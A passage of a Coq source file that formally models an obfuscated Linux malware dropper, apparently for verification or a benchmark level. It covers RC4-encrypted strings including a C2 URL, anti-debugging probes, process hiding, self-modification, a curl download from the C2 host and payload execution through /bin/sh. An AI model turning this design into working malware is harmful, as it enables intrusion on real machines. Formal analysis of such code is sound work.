(** * level13_MetamorphicDropper.c: a shallow embedding and its properties

    The C program is embedded function by function.  Machine integers are
    [Z] with the wrap-around written out, [unsigned char] buffers are
    [list Z] read and written by index, and the calls into the operating
    system are answered by an oracle. *)

From Stdlib Require Import ZArith Lia List.
From stdpp Require Import base option list list_numbers strings.

Local Open Scope Z_scope.

(** ** C arithmetic *)

(** Two's-complement reduction to [unsigned int] and to [int]. *)
Definition wrap_u32 (x : Z) : Z := x mod 2 ^ 32.
Definition wrap_s32 (x : Z) : Z := (x + 2 ^ 31) mod 2 ^ 32 - 2 ^ 31.

(** [a ^ b] stored into an [unsigned char]. *)
Definition xor8 (a b : Z) : Z := Z.land (Z.lxor a b) 255.

(** ** Arrays *)

(** [a[n]] and [a[n] = v] on a buffer; the index is a C [int]. *)
Definition rd (a : list Z) (n : Z) : Z := default 0 (a !! Z.to_nat n).
Definition wr (a : list Z) (n : Z) (v : Z) : list Z := <[Z.to_nat n := v]> a.

(** [for (i = i0; i < i0 + n; i++) body], where a body that steps outside
    its buffers (undefined behaviour in C) yields [None]. *)
Fixpoint for_loop {A : Type} (n : nat) (i : Z) (body : A -> Z -> option A)
    (a : A) : option A :=
  match n with
  | O => Some a
  | S n' =>
      match body a i with
      | Some a' => for_loop n' (i + 1) body a'
      | None => None
      end
  end.

(** ** RC4 stream cipher *)

(** [typedef struct { unsigned char S[256]; int i, j; } _rc4;] *)
Record _rc4 : Type := mk_rc4 { c_S : list Z; c_i : Z; c_j : Z }.

(** First loop of [_rc4i]: [c->S[i] = i]. *)
Definition rc4i_fill (s : list Z) (i : Z) : option (list Z) :=
  Some (wr s i i).

(** Second loop of [_rc4i]; the loop state is [(c->S, j)].  [i % kl] is a
    division by zero when [kl] is 0, and [k[i % kl]] must lie inside [k]. *)
Definition rc4i_mix (k : list Z) (kl : Z) (st : list Z * Z) (i : Z)
    : option (list Z * Z) :=
  let '(s, j) := st in
  if kl =? 0 then None
  else
    match k !! Z.to_nat (Z.rem i kl) with
    | None => None
    | Some kb =>
        let j' := Z.land (j + rd s i + kb) 255 in
        let t := rd s i in
        Some (wr (wr s i (rd s j')) j' t, j')
    end.

Definition _rc4i (c : _rc4) (k : list Z) (kl : Z) : option _rc4 :=
  match for_loop 256 0 rc4i_fill (c_S c) with
  | None => None
  | Some s0 =>
      match for_loop 256 0 (rc4i_mix k kl) (s0, 0) with
      | None => None
      | Some (s1, _) => Some {| c_S := s1; c_i := 0; c_j := 0 |}
      end
  end.

(** The cursor and table update of one round of [_rc4x]. *)
Definition rc4x_next (c : _rc4) : _rc4 :=
  let i' := Z.land (c_i c + 1) 255 in
  let j' := Z.land (c_j c + rd (c_S c) i') 255 in
  let t := rd (c_S c) i' in
  {| c_S := wr (wr (c_S c) i' (rd (c_S c) j')) j' t; c_i := i'; c_j := j' |}.

(** [c->S[(c->S[c->i] + c->S[c->j]) & 0xFF]], read after the swap. *)
Definition rc4x_out (c : _rc4) : Z :=
  rd (c_S c) (Z.land (rd (c_S c) (c_i c) + rd (c_S c) (c_j c)) 255).

(** Body of the loop of [_rc4x]; the loop state is [( *c, d)]. *)
Definition rc4x_body (st : _rc4 * list Z) (k : Z) : option (_rc4 * list Z) :=
  let '(c, d) := st in
  let c' := rc4x_next c in
  match d !! Z.to_nat k with
  | None => None
  | Some b => Some (c', wr d k (xor8 b (rc4x_out c')))
  end.

Definition _rc4x (c : _rc4) (d : list Z) (l : Z) : option (_rc4 * list Z) :=
  for_loop (Z.to_nat l) 0 rc4x_body (c, d).


(** ** Encrypted string table and masked key *)

Definition _ks : list Z :=
  [0xc2; 0xcd; 0x95; 0xd6; 0xd1; 0xfa; 0xce; 0x96;
   0xdc; 0xfa; 0x97; 0x95; 0x97; 0x91].
Definition KS_LEN : Z := 14.
Definition KS_MASK : Z := 0xa5.

Definition _st : list Z :=
  [0x92; 0x97; 0xc7; 0xbb; 0xe5; 0xf1; 0x8a; 0xc4;
   0xbe; 0xb2; 0x69; 0x0b; 0x9d; 0x9d; 0x25; 0x1e;
   0x6c; 0x42; 0x8b; 0xb9; 0xa0; 0x11; 0x62; 0xf1;
   0x8e; 0xdb; 0xa1; 0xfe; 0x21; 0x10; 0x97; 0x82;
   0x37; 0x6e; 0x72; 0x4f; 0x83; 0xbd; 0x8b; 0xdb;
   0xa2; 0xb6; 0x8a; 0xdd; 0xbe; 0xa7; 0x21; 0x4c;
   0x97; 0x96; 0x30; 0x2c; 0x6f; 0x46; 0x8b; 0xfb;
   0xaf; 0x50; 0x6c; 0xc4; 0x06; 0xc6; 0xce; 0xc8;
   0xf3; 0x5d; 0xb5; 0xa1; 0x82; 0x6f; 0xf3; 0x91;
   0xf1; 0x8a; 0xc4; 0xbe; 0xb2; 0x6b; 0x0d; 0x91;
   0x9c; 0x28; 0x31; 0x6b; 0x04; 0x9d; 0xbd; 0xbd;
   0x96; 0xc4; 0xa1; 0xf9; 0x2e; 0x48; 0x8a; 0xce;
   0x7e; 0x35; 0x72; 0x5a; 0xc1; 0xb0; 0xa2; 0x5c;
   0x73; 0x92; 0x13; 0xdc; 0x83; 0xc9; 0xe2; 0x0d;
   0xe7; 0xa9; 0xd1; 0x28; 0xa8; 0x20; 0xe5; 0x64;
   0xf8; 0xc9; 0x9c; 0xd5; 0x8a; 0x21; 0xb7; 0x1a;
   0x9f; 0xe2; 0xf1; 0x8e; 0xdb; 0xa1; 0xfe; 0x21;
   0x10; 0x97; 0x82; 0x37; 0x6e; 0x6c; 0x5e; 0x8f;
   0xa1; 0xb9; 0x4c; 0x8a; 0x8c; 0xc8; 0xad; 0xf8;
   0x7c; 0x33; 0x9b; 0x8a; 0xf1; 0x9a; 0xcc; 0xb8;
   0xb2; 0x60; 0x16; 0x9e; 0x82; 0xf1; 0x9c; 0xc0;
   0xa0; 0xb2; 0x7d; 0x0b; 0xf3; 0x9d].

(** String table offsets [(index, length)]. *)
Definition S_LINUX : Z * Z := (0, 5).
Definition S_MARKER : Z * Z := (5, 18).
Definition S_PROC_MEM : Z * Z := (23, 14).
Definition S_CURL : Z * Z := (37, 4).
Definition S_C2_URL : Z * Z := (41, 29).
Definition S_DASH_O : Z * Z := (70, 2).
Definition S_PAYLOAD_PATH : Z * Z := (72, 15).
Definition S_EXEC_CMD : Z * Z := (87, 43).
Definition S_PROC_STATUS : Z * Z := (130, 17).
Definition S_TRACER : Z * Z := (147, 9).
Definition S_DEV_NULL : Z * Z := (156, 9).
Definition S_BIN_SH : Z * Z := (165, 7).
Definition S_DASH_C : Z * Z := (172, 2).

Definition string_table : list (Z * Z) :=
  [S_LINUX; S_MARKER; S_PROC_MEM; S_CURL; S_C2_URL; S_DASH_O; S_PAYLOAD_PATH;
   S_EXEC_CMD; S_PROC_STATUS; S_TRACER; S_DEV_NULL; S_BIN_SH; S_DASH_C].

(** ** C strings *)

(** The bytes of a NUL-terminated string held in a buffer. *)
Fixpoint c_str (b : list Z) : list Z :=
  match b with
  | [] => []
  | x :: b' => if x =? 0 then [] else x :: c_str b'
  end.

Fixpoint is_prefix (n l : list Z) : bool :=
  match n, l with
  | [], _ => true
  | _ :: _, [] => false
  | a :: n', b :: l' => (a =? b) && is_prefix n' l'
  end.

(** [strstr(hay, needle) != NULL] *)
Fixpoint strstr (hay needle : list Z) : bool :=
  is_prefix needle hay
  || match hay with
     | [] => false
     | _ :: hay' => strstr hay' needle
     end.

(** [strchr(s, ch)]: the string from the first [ch] on, or NULL. *)
Fixpoint strchr (s : list Z) (ch : Z) : option (list Z) :=
  match s with
  | [] => None
  | x :: s' => if x =? ch then Some s else strchr s' ch
  end.

(** [while ( *p == ' ' || *p == '\t') p++;] *)
Fixpoint skip_blanks (p : list Z) : list Z :=
  match p with
  | x :: p' => if (x =? 32) || (x =? 9) then skip_blanks p' else p
  | [] => []
  end.

Definition isspace (x : Z) : bool := (x =? 32) || ((9 <=? x) && (x <=? 13)).

Fixpoint skip_space (p : list Z) : list Z :=
  match p with
  | x :: p' => if isspace x then skip_space p' else p
  | [] => []
  end.

Fixpoint digits (acc : Z) (p : list Z) : Z :=
  match p with
  | x :: p' =>
      if (48 <=? x) && (x <=? 57) then digits (acc * 10 + (x - 48)) p' else acc
  | [] => acc
  end.

Definition LONG_MAX : Z := 2 ^ 63 - 1.
Definition LONG_MIN : Z := - 2 ^ 63.

(** [strtol(p, NULL, 10)] of the C library: white space, an optional sign,
    decimal digits, all of which are consumed; a value that does not fit
    [long] is replaced by [LONG_MAX] or [LONG_MIN]. *)
Definition strtol (p : list Z) : Z :=
  let v :=
    match skip_space p with
    | 45 :: q => - digits 0 q
    | 43 :: q => digits 0 q
    | q => digits 0 q
    end in
  if LONG_MAX <? v then LONG_MAX else if v <? LONG_MIN then LONG_MIN else v.

(** [atoi(p)] is [(int) strtol(p, NULL, 10)]. *)
Definition atoi (p : list Z) : Z := wrap_s32 (strtol p).

(** [strcmp(a, b) == 0] *)
Definition streq (a b : list Z) : bool := bool_decide (a = b).

(** ** The process and the operating system *)

Inductive fn : Type :=
| F_ad_ptrace | F_ad_timing | F_ad_proc | F_hide_proc | F_sm_check
| F_self_modify | F_check_os | F_check_marker | F_download | F_exec_payload.

(** Ghost record of a run: the dispatcher states entered, and the calls
    of [main] into the functions above with what they returned. *)
Inductive event : Type :=
| EvState (s : Z)
| EvCall (f : fn)
| EvRet (f : fn) (r : Z)
| EvDone (f : fn).

Record timeval : Type := mk_timeval { tv_sec : Z; tv_usec : Z }.

(** Answers of the operating system.  Calls that may be issued several
    times ([malloc], [gettimeofday], [fork], [mprotect]) are answered by
    position. *)
Record oracle : Type := mk_oracle {
  os_getpid : Z;
  os_malloc : nat -> bool;
  os_ptrace : Z -> Z;
  os_gettimeofday : nat -> timeval;
  os_fopen : list Z -> option (list (list Z));
  os_open : list Z -> Z;
  os_mprotect : nat -> Z -> Z;
  os_uname : Z;
  os_sysname : list Z;
  os_stat : list Z -> Z;
  os_fork : nat -> Z;
  os_waitpid : Z -> Z;
  os_exec : list Z -> list (list Z) -> bool
}.

(** The static variables of the program, the positions reached in the
    oracle, and ghost state: [ds_null] counts the [_ds] calls that returned
    NULL, [written] holds the [write] system calls issued (descriptor and
    bytes), [trace] the events above. *)
Record pstate : Type := mk_pstate {
  _rk : list Z;
  _key_ready : Z;
  _sm_flag : Z;
  n_malloc : nat;
  n_time : nat;
  n_fork : nat;
  n_mprotect : nat;
  ds_null : nat;
  written : list (Z * list Z);
  trace : list event
}.

Definition init_pstate : pstate :=
  {| _rk := replicate 14 0; _key_ready := 0; _sm_flag := 0;
     n_malloc := 0; n_time := 0; n_fork := 0;
     n_mprotect := 0; ds_null := 0; written := []; trace := [] |}.

(** How a call can end without returning to its caller. *)
Inductive halt : Type :=
| ChildExit (code : Z)
| ChildExec (file : list Z) (argv : list (list Z))
| Undefined.

Inductive result (A : Type) : Type :=
| Ret (a : A) (s : pstate)
| Halt (h : halt) (s : pstate).
Arguments Ret {A} a s.
Arguments Halt {A} h s.

Definition M (A : Type) : Type := oracle -> pstate -> result A.

Definition ret {A : Type} (a : A) : M A := fun _ s => Ret a s.

Definition bind {A B : Type} (m : M A) (k : A -> M B) : M B :=
  fun o s =>
    match m o s with
    | Ret a s' => k a o s'
    | Halt h s' => Halt h s'
    end.

Notation "x <- m ;; k" := (bind m (fun x => k))
  (at level 100, m at level 99, right associativity).
Notation "m ;;; k" := (bind m (fun _ => k))
  (at level 100, right associativity).

Definition stop {A : Type} (h : halt) : M A := fun _ s => Halt h s.

Definition log (e : event) : M unit :=
  fun _ s =>
    Ret tt {| _rk := _rk s; _key_ready := _key_ready s; _sm_flag := _sm_flag s;
              n_malloc := n_malloc s; n_time := n_time s; n_fork := n_fork s;
              n_mprotect := n_mprotect s; ds_null := ds_null s;
              written := written s; trace := trace s ++ [e] |}.

(** A call from [main] of an [int] function, and of a [void] function. *)
Definition call (f : fn) (body : M Z) : M Z :=
  log (EvCall f) ;;; r <- body ;; log (EvRet f r) ;;; ret r.

Definition call_void (f : fn) (body : M unit) : M unit :=
  log (EvCall f) ;;; body ;;; log (EvDone f).

(** *** System calls *)

Definition PTRACE_TRACEME : Z := 0.
Definition PTRACE_DETACH : Z := 17.
Definition PROT_READ : Z := 1.
Definition PROT_WRITE : Z := 2.
Definition PROT_EXEC : Z := 4.

Definition getpid : M Z := fun o s => Ret (os_getpid o) s.
Definition ptrace (request : Z) : M Z := fun o s => Ret (os_ptrace o request) s.
Definition fopen (path : list Z) : M (option (list (list Z))) :=
  fun o s => Ret (os_fopen o (c_str path)) s.
Definition sys_open (path : list Z) : M Z :=
  fun o s => Ret (os_open o (c_str path)) s.
Definition uname : M (Z * list Z) :=
  fun o s => Ret (os_uname o, os_sysname o) s.
Definition stat (path : list Z) : M Z :=
  fun o s => Ret (os_stat o (c_str path)) s.
Definition waitpid (pid : Z) : M Z := fun o s => Ret (os_waitpid o pid) s.

Definition gettimeofday : M timeval :=
  fun o s =>
    Ret (os_gettimeofday o (n_time s))
        {| _rk := _rk s; _key_ready := _key_ready s; _sm_flag := _sm_flag s;
           n_malloc := n_malloc s; n_time := S (n_time s); n_fork := n_fork s;
           n_mprotect := n_mprotect s; ds_null := ds_null s;
           written := written s; trace := trace s |}.

(** [malloc(size)]: NULL, or a fresh buffer of [size] bytes. *)
Definition malloc (size : Z) : M (option (list Z)) :=
  fun o s =>
    Ret (if os_malloc o (n_malloc s) then Some (replicate (Z.to_nat size) 0)
         else None)
        {| _rk := _rk s; _key_ready := _key_ready s; _sm_flag := _sm_flag s;
           n_malloc := S (n_malloc s); n_time := n_time s; n_fork := n_fork s;
           n_mprotect := n_mprotect s; ds_null := ds_null s;
           written := written s; trace := trace s |}.

Definition fork : M Z :=
  fun o s =>
    Ret (os_fork o (n_fork s))
        {| _rk := _rk s; _key_ready := _key_ready s; _sm_flag := _sm_flag s;
           n_malloc := n_malloc s; n_time := n_time s; n_fork := S (n_fork s);
           n_mprotect := n_mprotect s; ds_null := ds_null s;
           written := written s; trace := trace s |}.

Definition mprotect (prot : Z) : M Z :=
  fun o s =>
    Ret (os_mprotect o (n_mprotect s) prot)
        {| _rk := _rk s; _key_ready := _key_ready s; _sm_flag := _sm_flag s;
           n_malloc := n_malloc s; n_time := n_time s; n_fork := n_fork s;
           n_mprotect := S (n_mprotect s); ds_null := ds_null s;
           written := written s; trace := trace s |}.

(** [syscall(SYS_write, fd, buf, size)]; the result is not looked at. *)
Definition sys_write (fd : Z) (buf : list Z) : M unit :=
  fun _ s =>
    Ret tt {| _rk := _rk s; _key_ready := _key_ready s; _sm_flag := _sm_flag s;
              n_malloc := n_malloc s; n_time := n_time s; n_fork := n_fork s;
              n_mprotect := n_mprotect s; ds_null := ds_null s;
              written := written s ++ [(fd, buf)]; trace := trace s |}.

(** [syscall(SYS_close, fd)]; the result is not looked at. *)
Definition sys_close (fd : Z) : M unit := fun _ s => Ret tt s.

(** [execl]/[execlp]: replaces the process image, or returns -1. *)
Definition exec (file : list Z) (argv : list (list Z)) : M Z :=
  fun o s =>
    if os_exec o (c_str file) (c_str <$> argv)
    then Halt (ChildExec (c_str file) (c_str <$> argv)) s
    else Ret (-1) s.

Definition _exit {A : Type} (code : Z) : M A := stop (ChildExit code).

Definition WIFEXITED (status : Z) : bool := Z.land status 0x7f =? 0.
Definition WEXITSTATUS (status : Z) : Z := Z.shiftr (Z.land status 0xff00) 8.

(** ** Key recovery *)

Definition set_key (rk : list Z) : M unit :=
  fun _ s =>
    Ret tt {| _rk := rk; _key_ready := 1; _sm_flag := _sm_flag s;
              n_malloc := n_malloc s; n_time := n_time s; n_fork := n_fork s;
              n_mprotect := n_mprotect s; ds_null := ds_null s;
              written := written s; trace := trace s |}.

Definition get_rk : M (list Z) := fun _ s => Ret (_rk s) s.
Definition get_key_ready : M Z := fun _ s => Ret (_key_ready s) s.

(** [for (int i = 0; i < KS_LEN; i++) _rk[i] = _ks[i] ^ m;] *)
Definition unmask (m : Z) (rk : list Z) : option (list Z) :=
  for_loop (Z.to_nat KS_LEN) 0 (fun rk i => Some (wr rk i (xor8 (rd _ks i) m))) rk.

Definition _recover_key : M unit :=
  ready <- get_key_ready ;;
  if negb (ready =? 0) then ret tt
  else
    let mask := KS_MASK in
    pid <- getpid ;;
    let _op := wrap_u32 pid in
    rk <- get_rk ;;
    match
      (if negb (wrap_u32 (wrap_u32 (_op * _op) + _op) mod 2 =? 0)
       then unmask 0xFF rk
       else unmask mask rk)
    with
    | Some rk' => set_key rk'
    | None => stop Undefined
    end.

(** [_recover_key] called [n] times in a row. *)
Fixpoint recover_key_times (n : nat) : M unit :=
  match n with
  | O => ret tt
  | S n' => _recover_key ;;; recover_key_times n'
  end.

(** ** Decrypting a string of the table *)

Definition count_null : M unit :=
  fun _ s =>
    Ret tt {| _rk := _rk s; _key_ready := _key_ready s; _sm_flag := _sm_flag s;
              n_malloc := n_malloc s; n_time := n_time s; n_fork := n_fork s;
              n_mprotect := n_mprotect s; ds_null := S (ds_null s);
              written := written s; trace := trace s |}.

(** [memcpy(buf, _st + off, len)]; reading outside [_st] is undefined. *)
Definition memcpy_st (buf : list Z) (off len : Z) : option (list Z) :=
  if (0 <=? off) && (0 <=? len) && (off + len <=? Z.of_nat (length _st))
     && (len <=? Z.of_nat (length buf))
  then Some (take (Z.to_nat len) (drop (Z.to_nat off) _st)
             ++ drop (Z.to_nat len) buf)
  else None.

(** [_ds(off, len)]: NULL ([None]) or the decrypted buffer of [len + 1]
    bytes.  A fresh cipher context [ctx] lives on the stack. *)
Definition _ds (off len : Z) : M (option (list Z)) :=
  _recover_key ;;;
  mem <- malloc (len + 1) ;;
  match mem with
  | None => count_null ;;; ret None
  | Some buf =>
      rk <- get_rk ;;
      match memcpy_st buf off len with
      | None => stop Undefined
      | Some buf1 =>
          let ctx := {| c_S := replicate 256 0; c_i := 0; c_j := 0 |} in
          match _rc4i ctx rk KS_LEN with
          | None => stop Undefined
          | Some ctx1 =>
              match _rc4x ctx1 buf1 len with
              | None => stop Undefined
              | Some (_, buf2) => ret (Some (wr buf2 len 0))
              end
          end
      end
  end.

Definition _ds_at (e : Z * Z) : M (option (list Z)) := _ds (fst e) (snd e).

(** ** Anti-debugging probes *)

Definition _ad_ptrace : M Z :=
  r <- ptrace PTRACE_TRACEME ;;
  if r =? -1 then ret 1
  else ptrace PTRACE_DETACH ;;; ret 0.

Definition wrap_s64 (x : Z) : Z := (x + 2 ^ 63) mod 2 ^ 64 - 2 ^ 63.

(** The busy loop between the two clock readings only feeds a local that
    is discarded. *)
Definition _ad_timing : M Z :=
  t1 <- gettimeofday ;;
  t2 <- gettimeofday ;;
  let elapsed :=
    wrap_s64 (wrap_s64 (wrap_s64 (tv_sec t2 - tv_sec t1) * 1000000)
              + wrap_s64 (tv_usec t2 - tv_usec t1)) in
  if 500000 <? elapsed then ret 1 else ret 0.

(** The [while (fgets(line, sizeof(line), f))] loop of [_ad_proc] over the
    successive results of [fgets]; the value is [traced]. *)
Fixpoint scan_status (lines : list (list Z)) (needle : list Z) : Z :=
  match lines with
  | [] => 0
  | line :: rest =>
      if strstr line needle then
        match strchr line 58 with
        | Some (_ :: p) => if negb (atoi (skip_blanks p) =? 0) then 1 else 0
        | _ => 0
        end
      else scan_status rest needle
  end.

Definition _ad_proc : M Z :=
  path <- _ds_at S_PROC_STATUS ;;
  needle <- _ds_at S_TRACER ;;
  match path, needle with
  | Some path, Some needle =>
      f <- fopen path ;;
      match f with
      | Some lines => ret (scan_status lines (c_str needle))
      | None => ret 0
      end
  | _, _ => ret 0
  end.

(** ** Process hiding *)

(** [fd] is the result of [openat] cast to [int]; [zero] is the local
    array of 512 bytes after [memset]. *)
Definition _hide_proc : M unit :=
  pm <- _ds_at S_PROC_MEM ;;
  match pm with
  | None => ret tt
  | Some pm =>
      r <- sys_open pm ;;
      let fd := wrap_s32 r in
      if fd <? 0 then ret tt
      else
        let zero := replicate 512 0 in
        sys_write fd zero ;;;
        sys_close fd
  end.

(** ** Self-modification *)

Definition set_sm_flag (v : Z) : M unit :=
  fun _ s =>
    Ret tt {| _rk := _rk s; _key_ready := _key_ready s; _sm_flag := v;
              n_malloc := n_malloc s; n_time := n_time s; n_fork := n_fork s;
              n_mprotect := n_mprotect s; ds_null := ds_null s;
              written := written s; trace := trace s |}.

Definition _sm_check : M Z := fun _ s => Ret (_sm_flag s) s.

Definition _self_modify : M unit :=
  r <- mprotect (Z.lor (Z.lor PROT_READ PROT_WRITE) PROT_EXEC) ;;
  if r =? 0 then
    set_sm_flag 1 ;;;
    mprotect (Z.lor PROT_READ PROT_EXEC) ;;;
    ret tt
  else ret tt.


(** ** Opaque predicates *)

Definition _opaque_true (x : Z) : Z :=
  if Z.rem (wrap_s32 (x * wrap_s32 (x + 1))) 2 =? 0 then 1 else 0.

Definition _opaque_false (x : Z) : Z :=
  if Z.rem (wrap_s32 (wrap_s32 (wrap_s32 (x * x) + x) + 1)) 2 =? 0
  then 1 else 0.

(** ** Checks *)

Definition _check_os : M Z :=
  u <- uname ;;
  if negb (fst u =? 0) then ret 0
  else
    target <- _ds_at S_LINUX ;;
    match target with
    | None => ret 0
    | Some target => ret (if streq (snd u) (c_str target) then 1 else 0)
    end.

Definition _check_marker : M Z :=
  marker <- _ds_at S_MARKER ;;
  match marker with
  | None => ret 0
  | Some marker =>
      r <- stat marker ;;
      ret (if r =? 0 then 1 else 0)
  end.

(** ** Download and execution *)

(** In the child, the redirection of the standard streams to [dev_null]
    leaves no mark on the modelled state. *)
Definition _download : M Z :=
  curl_bin <- _ds_at S_CURL ;;
  c2_url <- _ds_at S_C2_URL ;;
  dash_o <- _ds_at S_DASH_O ;;
  out_path <- _ds_at S_PAYLOAD_PATH ;;
  dev_null <- _ds_at S_DEV_NULL ;;
  match curl_bin, c2_url, dash_o, out_path, dev_null with
  | Some curl_bin, Some c2_url, Some dash_o, Some out_path, Some dev_null =>
      pid <- fork ;;
      if pid =? 0 then
        sys_open dev_null ;;;
        exec curl_bin [curl_bin; c2_url; dash_o; out_path] ;;;
        _exit 127
      else if pid <? 0 then ret (-1)
      else
        status <- waitpid pid ;;
        if WIFEXITED status && (WEXITSTATUS status =? 0) then ret 0
        else ret (-1)
  | _, _, _, _, _ => ret (-1)
  end.

Definition _exec_payload : M Z :=
  sh <- _ds_at S_BIN_SH ;;
  dash_c <- _ds_at S_DASH_C ;;
  cmd <- _ds_at S_EXEC_CMD ;;
  match sh, dash_c, cmd with
  | Some sh, Some dash_c, Some cmd =>
      pid <- fork ;;
      if pid =? 0 then
        exec sh [sh; dash_c; cmd] ;;;
        _exit 127
      else if pid <? 0 then ret (-1)
      else
        status <- waitpid pid ;;
        ret (if WIFEXITED status && (WEXITSTATUS status =? 0) then 0 else -1)
  | _, _, _ => ret (-1)
  end.

(** ** The flattened dispatcher *)

Definition ST_INIT : Z := 0x7a3c.
Definition ST_ANTI_DEBUG_1 : Z := 0x1f82.
Definition ST_ANTI_DEBUG_2 : Z := 0x4db1.
Definition ST_ANTI_DEBUG_3 : Z := 0x62e9.
Definition ST_SELF_MODIFY : Z := 0x35af.
Definition ST_CHECK_OS : Z := 0x58c4.
Definition ST_CHECK_MARKER : Z := 0x0d17.
Definition ST_HIDE_PROC : Z := 0x93be.
Definition ST_DOWNLOAD : Z := 0xa420.
Definition ST_EXEC : Z := 0xb5f6.
Definition ST_EXIT_OK : Z := 0xcccc.
Definition ST_EXIT_FAIL : Z := 0xdddd.

Definition all_states : list Z :=
  [ST_INIT; ST_ANTI_DEBUG_1; ST_ANTI_DEBUG_2; ST_ANTI_DEBUG_3; ST_SELF_MODIFY;
   ST_CHECK_OS; ST_CHECK_MARKER; ST_HIDE_PROC; ST_DOWNLOAD; ST_EXEC;
   ST_EXIT_OK; ST_EXIT_FAIL].

(** What one pass through the [switch] does to the loop: assign [state]
    (and possibly [retval]) and [break], or [return]. *)
Inductive next : Type :=
| Goto (state retval : Z)
| Return (code : Z).

(** One pass through [switch (state)]. *)
Definition dispatch (state retval sentinel : Z) : M next :=
  if state =? ST_INIT then
    if negb (_opaque_true sentinel =? 0) then ret (Goto ST_ANTI_DEBUG_1 retval)
    else ret (Goto ST_EXIT_FAIL retval)
  else if state =? ST_ANTI_DEBUG_1 then
    r <- call F_ad_ptrace _ad_ptrace ;;
    if negb (r =? 0) then ret (Goto ST_EXIT_FAIL retval)
    else ret (Goto (Z.lxor ST_ANTI_DEBUG_2 0x0000 + 0) retval)
  else if state =? ST_ANTI_DEBUG_2 then
    r <- call F_ad_timing _ad_timing ;;
    if negb (r =? 0) then ret (Goto ST_EXIT_FAIL retval)
    else ret (Goto ST_ANTI_DEBUG_3 retval)
  else if state =? ST_ANTI_DEBUG_3 then
    r <- call F_ad_proc _ad_proc ;;
    if negb (r =? 0) then ret (Goto ST_EXIT_FAIL retval)
    else ret (Goto ST_SELF_MODIFY retval)
  else if state =? ST_SELF_MODIFY then
    call_void F_self_modify _self_modify ;;;
    r <- call F_sm_check _sm_check ;;
    if negb (r =? 0) then ret (Goto ST_CHECK_OS retval)
    else ret (Goto ST_EXIT_FAIL retval)
  else if state =? ST_CHECK_OS then
    r <- call F_check_os _check_os ;;
    if r =? 0 then ret (Goto ST_EXIT_FAIL retval)
    else if negb (_opaque_false sentinel =? 0) then ret (Goto ST_INIT retval)
    else ret (Goto ST_CHECK_MARKER retval)
  else if state =? ST_CHECK_MARKER then
    r <- call F_check_marker _check_marker ;;
    if negb (r =? 0) then ret (Goto ST_EXIT_FAIL retval)
    else ret (Goto ST_HIDE_PROC retval)
  else if state =? ST_HIDE_PROC then
    call_void F_hide_proc _hide_proc ;;;
    ret (Goto ST_DOWNLOAD retval)
  else if state =? ST_DOWNLOAD then
    r <- call F_download _download ;;
    if negb (r =? 0) then ret (Goto ST_EXIT_FAIL retval)
    else ret (Goto ST_EXEC retval)
  else if state =? ST_EXEC then
    r <- call F_exec_payload _exec_payload ;;
    ret (Goto ST_EXIT_OK (if r =? 0 then 0 else retval))
  else if state =? ST_EXIT_OK then ret (Return retval)
  else if state =? ST_EXIT_FAIL then ret (Return 1)
  else ret (Return 1).

(** One pass of the loop; entering the [switch] is recorded. *)
Definition one_pass (state retval sentinel : Z) : M next :=
  log (EvState state) ;;; dispatch state retval sentinel.

(** [while (1) { switch (state) ... }], cut off after [fuel] passes
    ([None]: the loop is still running). *)
Fixpoint main_loop (fuel : nat) (state retval sentinel : Z) (o : oracle)
    (s : pstate) : option (result Z) :=
  match fuel with
  | O => None
  | S fuel' =>
      match one_pass state retval sentinel o s with
      | Ret (Goto state' retval') s' =>
          main_loop fuel' state' retval' sentinel o s'
      | Ret (Return code) s' => Some (Ret code s')
      | Halt h s' => Some (Halt h s')
      end
  end.

Definition main (fuel : nat) (o : oracle) : option (result Z) :=
  match getpid o init_pstate with
  | Ret sentinel s => main_loop fuel ST_INIT 1 sentinel o s
  | Halt h s => Some (Halt h s)
  end.

(** The cipher state after [n] rounds of [_rc4x], and the byte that round
    [m] (counted from 0) combines with the data. *)
Definition rc4x_run (n : nat) (c : _rc4) : _rc4 := Nat.iter n rc4x_next c.
Definition keystream (c : _rc4) (m : nat) : Z := rc4x_out (rc4x_run (S m) c).

(** ** Sample environments *)

(** An environment in which every probe is clear, the platform is Linux
    and both children exit with status 0, except for what the parameters
    change: which [malloc] calls succeed, the clock, the result of [stat]
    and the wait status of the children. *)
Definition sample_os (alloc : nat -> bool) (clock : nat -> timeval)
    (stat_result wait_status : Z) : oracle :=
  {| os_getpid := 4242;
     os_malloc := alloc;
     os_ptrace := fun _ => 0;
     os_gettimeofday := clock;
     os_fopen := fun _ =>
       Some [[78; 97; 109; 101; 58; 9; 120; 10];
             [84; 114; 97; 99; 101; 114; 80; 105; 100; 58; 9; 48; 10]];
     os_open := fun _ => 3;
     os_mprotect := fun _ _ => 0;
     os_uname := 0;
     os_sysname := [76; 105; 110; 117; 120];
     os_stat := fun _ => stat_result;
     os_fork := fun _ => 1000;
     os_waitpid := fun _ => wait_status;
     os_exec := fun _ _ => true |}.

Definition steady_clock (n : nat) : timeval :=
  {| tv_sec := 100; tv_usec := Z.of_nat n |}.
Definition slow_clock (n : nat) : timeval :=
  {| tv_sec := 100 + Z.of_nat n; tv_usec := 0 |}.

Definition os_clean : oracle := sample_os (fun _ => true) steady_clock (-1) 0.
Definition os_single_stepped : oracle :=
  sample_os (fun _ => true) slow_clock (-1) 0.
Definition os_marker_present : oracle :=
  sample_os (fun _ => true) steady_clock 0 0.
Definition os_fetch_fails : oracle :=
  sample_os (fun _ => true) steady_clock (-1) 256.
(** The two allocations of [_ad_proc] fail, all later ones succeed. *)
Definition os_probe_out_of_memory : oracle :=
  sample_os (fun n => negb (n <? 2)%nat) steady_clock (-1) 0.
Definition os_out_of_memory : oracle :=
  sample_os (fun _ => false) steady_clock (-1) 0.
(** The first ten allocations succeed, the three of [_exec_payload] fail. *)
Definition os_exec_out_of_memory : oracle :=
  sample_os (fun n => (n <? 10)%nat) steady_clock (-1) 0.



(** ** Vocabulary of the statements *)

(** The key buffer has its declared size [KS_LEN]. *)
Definition WF (s : pstate) : Prop := length (_rk s) = 14%nat.

(** [_ks] with every byte XOR-ed with [KS_MASK]. *)
Definition recovered_key : list Z := (fun b => xor8 b KS_MASK) <$> _ks.

(** The state [_recover_key] leaves behind. *)
Definition after_recover (s : pstate) : pstate :=
  if _key_ready s =? 0 then
    {| _rk := recovered_key; _key_ready := 1; _sm_flag := _sm_flag s;
       n_malloc := n_malloc s; n_time := n_time s; n_fork := n_fork s;
       n_mprotect := n_mprotect s; ds_null := ds_null s;
       written := written s; trace := trace s |}
  else s.

(** The state one call of [_ds] leaves behind. *)
Definition after_ds (o : oracle) (s : pstate) : pstate :=
  let s1 := after_recover s in
